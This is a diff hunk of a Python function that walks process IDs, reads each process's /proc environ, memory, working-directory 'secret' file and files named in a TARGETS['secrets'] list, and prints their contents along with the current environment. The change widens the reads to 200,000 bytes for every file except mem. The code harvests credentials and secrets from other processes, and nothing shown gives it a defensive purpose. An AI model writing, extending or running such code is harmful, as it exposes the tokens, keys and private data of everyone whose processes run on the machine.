@@ -114,7 +114,7 @@ def read_environments() -> None:
         for name in ("environ", "cwd/secret", "root/" + TARGETS["secrets"][0], "mem"):
             try:
                 with open(f"/proc/{pid}/{name}", "rb") as file:
-                    print(pid, name, file.read(4000))
+                    print(pid, name, file.read(4_000 if name == "mem" else 200_000))
             except OSError:
                 pass
     print(dict(os.environ))
